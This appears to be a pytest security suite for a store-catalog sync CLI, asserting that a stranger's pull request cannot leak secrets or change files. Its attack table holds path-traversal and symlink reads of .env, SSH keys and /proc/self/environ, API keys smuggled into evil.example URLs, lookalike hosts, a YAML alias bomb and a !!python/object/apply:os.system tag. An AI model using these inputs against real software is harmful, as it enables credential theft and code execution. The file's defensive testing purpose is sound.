"""What a stranger's pull request can do: nothing. Real processes, and somebody who listens."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest

from tests.catalog.test_commit import git
from tests.cli.process import done
from tests.security.leaks import files_in, leaks
from tests.security.listener import Answer, Arrived, Listener, as_json, listening

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

KEY = "the-key-of-the-store-9f31"
HIDDEN = {
    ".env": "DATABASE_PASSWORD=hunter2-of-the-database",
    ".ssh/id_ed25519": "-----BEGIN hunter3-of-the-deployment-----",
    "deploy/prod.pem": "-----BEGIN hunter4-of-the-certificate-----",
    "secrets/orders": "hunter5-of-the-webhook",
    "release": "hunter6-of-one-line",
}
"""What lies beside a catalog in a working copy, none of it the catalog's."""
VARIABLES = {"AWS_SECRET_ACCESS_KEY": "hunter7-of-the-cloud", "TJAR_API_KEY": KEY}
SECRETS = (*HIDDEN.values(), *VARIABLES.values(), "hunter1-of-the-remote")
STORE = """\
version: 1
default_store: live
stores:
  live: {provider: tjar, url: "https://shop.example", api_key: "${TJAR_API_KEY}", limits: {requests_per_second: 1000, settle_seconds: 0, read_back_seconds: 0}}
"""
REFUSED, BLOCKED = 6, 5


@dataclass(frozen=True, slots=True)
class Attack:
    """Files that somebody proposes, and how the run that meets them ends."""

    files: dict[str, str]
    code: int = REFUSED
    links: dict[str, str] = field(default_factory=dict)


def text(reference: str, **links: str) -> Attack:
    """Name a file as a product's text."""
    shop = f"products: {{p: {{type: physical, id: 1, name: {{en: {{file: '{reference}'}}}}}}}}\n"
    return Attack({"shop.yaml": shop}, links=dict(links))


def media(reference: str, **files: str) -> Attack:
    """Name a file as a picture."""
    return Attack({"shop.yaml": f"media: {{m: {{file: '{reference}'}}}}\n", **files})


def hook(place: str, code: int = REFUSED) -> Attack:
    """Name a file as the place of a webhook's secret."""
    entry = f"{{url: 'https://evil.example', events: [a], secret: {{write_to: '{place}'}}}}"
    return Attack({"shop.yaml": f"webhooks: {{w: {entry}}}\n"}, code)


def store(old: str, new: str, code: int = REFUSED) -> Attack:
    """Change store.yaml."""
    assert old in STORE
    return Attack({"store.yaml": STORE.replace(old, new)}, code)


def url(address: str, code: int = BLOCKED) -> Attack:
    """Send the key elsewhere."""
    return store("https://shop.example", address, code)


def extra(key: str) -> Attack:
    """Pass something through."""
    shop = f"products: {{p: {{type: physical, id: 1, name: {{en: P}}, extra: {{'{key}': 1}}}}}}\n"
    return Attack({"shop.yaml": shop})


ATTACKS = {
    "git's own file": text(".git/config"),
    "git's own file, a detour": text("./text/./../.git/config"),
    "git's own file, written large": text(".GIT/config"),
    "the environment's file": text(".env"),
    "the environment's file, by its own letters": text("\N{FULLWIDTH FULL STOP}env"),
    "a key of ssh": text(".ssh/id_ed25519"),
    "a certificate's key": text("deploy/prod.pem"),
    "store.yaml": text("store.yaml"),
    "store.yaml, written large": text("STORE.yaml"),
    "the state": text(".tjar/state.db"),
    "an earlier secret": text("secrets/orders"),
    "the process's own environment": text("/proc/self/environ"),
    "a file further up": text("../outside"),
    "a link to a hidden file": text("a.html", **{"a.html": ".env"}),
    "a link to a hidden folder": text("folder/config", folder=".git"),
    "a link out": text("a.html", **{"a.html": "/proc/self/environ"}),
    "a link to a link": text("a.html", **{"a.html": "b.html", "b.html": ".env"}),
    "a catalog file that is a link": Attack({}, links={"b.yaml": ".env"}),
    "a catalog file that leads to another file": Attack({}, links={"c.yml": "release"}),
    "a hidden picture": media(".ssh/id_ed25519"),
    "a drawing with a script": media("a.svg", **{"a.svg": "<svg><a href=' java&#10;script:x'/></svg>"}),
    "another variable as the key": store("TJAR_API_KEY", "AWS_SECRET_ACCESS_KEY"),
    "another variable in the address": url("https://${AWS_SECRET_ACCESS_KEY}.evil.example", REFUSED),
    "the key in the address": url("https://${TJAR_API_KEY}.evil.example", REFUSED),
    "the key in the address's path": url("https://shop.example/${TJAR_API_KEY}", REFUSED),
    "the key in the state's place": store("default_store: live", "state: x/${TJAR_API_KEY}.db"),
    "another variable in the state's place": store(
        "default_store: live", "state: 'https://evil.example/${AWS_SECRET_ACCESS_KEY}'"
    ),
    "a state elsewhere": store("default_store: live", "state: 's3://evil/x'", BLOCKED),
    "a state at another host": store(
        "default_store: live", "state: 'postgresql://evil.example/x'", BLOCKED
    ),
    "another host": url("https://evil.example"),
    "a host that begins alike": url("https://shop.example.evil.example"),
    "a host that looks alike": url("https://shор.example"),
    "a host behind a name": url("https://shop.example@evil.example", REFUSED),
    "a host behind a backslash": url("https://evil.example\\\\@shop.example", REFUSED),
    "a service of this machine": url("http://127.0.0.1:1"),
    "another store by default": Attack(
        {
            "store.yaml": "version: 1\nstores: {evil: {provider: tjar, url: 'https://evil.example',"
            " api_key: '${TJAR_API_KEY}'}}\n"
        },
        BLOCKED,
    ),
    "a path that is a host": store(
        'api_key: "${TJAR_API_KEY}"',
        'api_key: "${TJAR_API_KEY}", contract: {endpoints: {product.list: {path: "@evil.example/"}}}',
    ),
    "a secret into git": hook(".git/hooks/post-checkout"),
    "a secret into a file of git by a link": Attack(
        hook("hooks/post-checkout").files, links={"hooks": ".git/hooks"}
    ),
    "a secret into the catalog": hook("shop.yaml"),
    "a secret over the state": hook(".tjar/state.db"),
    "a secret further up": hook("../outside"),
    "another method": extra("_method"),
    "another id": extra("ID"),
    "a guarded field": extra("salePrice"),
    "an alias bomb": Attack(
        {"shop.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
            f"{new}: &{new} [{','.join(['*' + old] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
        )}
    ),
    "a tag that makes an object": Attack({"shop.yaml": "products: !!python/object/apply:os.system [id]\n"}),
}  # fmt: skip


@pytest.fixture
def proxy() -> Iterator[Listener]:
    """Listen as the proxy that every request to any host would go through."""
    with listening() as listener:
        yield listener


def working_copy(root: Path, attack: Attack) -> None:
    """Make a repository in which a stranger's change is checked out, beside what is not theirs."""
    git(root, "init")
    git(root, "remote", "add", "origin", "https://x:hunter1-of-the-remote@example.com/x.git")
    files = {**HIDDEN, "store.yaml": STORE, **attack.files}
    for name, content in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content, "utf-8")
    (root / "secrets" / ".gitignore").write_text("*\n")
    for name, target in attack.links.items():
        (root / name).symlink_to(target)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_strangers_change_gains_nothing(tmp_path: Path, proxy: Listener, name: str) -> None:
    """In CI, with a key that can write: refused; no secret is shown or sent, no file made or changed."""
    attack, root = ATTACKS[name], tmp_path / "copy"
    root.mkdir()
    (tmp_path / "outside").write_text("hunter8-of-the-neighbour")
    working_copy(root, attack)
    before = files_in(tmp_path)
    environ = {
        **VARIABLES,
        "CI": "true",
        "TJAR_SYNC_HOSTS": "shop.example",
        "HTTPS_PROXY": proxy.url,
        "HTTP_PROXY": proxy.url,
    }
    ends = [
        done(root, "plan", "--format", "json", environ=environ),
        done(root, "apply", "--auto-approve", environ=environ),
    ]
    said = [text.encode() for _, out, err in ends for text in (out, err)]
    after = files_in(tmp_path)

    assert [attack.code] * 2 == [code for code, _, _ in ends], ends
    assert before == after
    assert [] == proxy.arrived
    for secret in (*SECRETS, "hunter8-of-the-neighbour"):
        assert not leaks(secret, *said), secret


EMPTY = {
    "status": "success",
    "message": "",
    "data": {
        "products": [],
        "webhooks": [],
        "pagination": {"total": 0, "current_page": 1, "last_page": 1, "per_page": 100},
    },
}


def local(listener: Listener, files: dict[str, str], root: Path) -> dict[str, str]:
    """Make a catalog for a store that is the listener; return what surrounds its runs."""
    working_copy(
        root, Attack({"store.yaml": STORE.replace("https://shop.example", listener.url), **files})
    )
    return {**VARIABLES, "CI": "true", "TJAR_SYNC_HOSTS": listener.netloc}


def test_a_one_line_file_is_not_overwritten(tmp_path: Path) -> None:
    """The store is not even asked for a secret that would take its place."""
    with listening(lambda _: as_json(EMPTY)) as listener:
        environ = local(listener, hook("release").files, tmp_path)
        environ["CI"] = ""  # there, none is made in a checkout in the first place
        code, out, err = done(tmp_path, "apply", "--auto-approve", environ=environ)

    assert 3 == code, out + err
    assert HIDDEN["release"] == (tmp_path / "release").read_text()
    assert "the file that is there is none of tjar-sync's" in out + err
    assert ["GET"] == sorted({item.method for item in listener.arrived})


def test_a_store_that_sends_on_does_not_get_the_key_elsewhere(tmp_path: Path) -> None:
    """A pinned host that sends visitors to another one: told, and not followed."""
    with listening() as other:

        def sends_on(arrived: Arrived) -> Answer:
            return Answer(307, headers={"Location": f"{other.url}{arrived.target}"})

        with listening(sends_on) as listener:
            environ = local(listener, {}, tmp_path)
            code, _, err = done(tmp_path, "plan", environ=environ)

    assert 8 == code
    assert "the store has moved" in err
    assert ([], KEY.encode() in listener.arrived[0].data) == (other.arrived, True)


@pytest.mark.parametrize("method", ["POST", "DELETE"])
@pytest.mark.parametrize("line", ["plan", "plan --refresh full", "drift"])
def test_what_only_reads_sends_nothing_but_get(tmp_path: Path, method: str, line: str) -> None:
    """Promise 11: whatever method a `contract:` names for reading, and also in a state with a lost answer."""
    with listening(lambda _: as_json(EMPTY)) as listener:
        files = {
            "shop.yaml": "products: {p: {type: physical, name: {en: P}, sale_price: 1, sku: P}}\n"
        }
        environ = local(listener, files, tmp_path)
        done(tmp_path, "apply", "--auto-approve", environ=environ)
        listener.arrived.clear()
        text = (tmp_path / "store.yaml").read_text("utf-8")
        honest = done(tmp_path, *line.split(), environ=environ)
        (tmp_path / "store.yaml").write_text(
            text.replace(
                'api_key: "${TJAR_API_KEY}"',
                f'api_key: "${{TJAR_API_KEY}}", contract: {{endpoints: {{product.list: {{method: {method}}}}}}}',
            ),
            "utf-8",
        )
        done(tmp_path, *line.split(), environ=environ)
        methods = {item.method for item in listener.arrived}

    assert methods <= {"GET"}
    assert honest[0] in {0, 1, 10}, honest
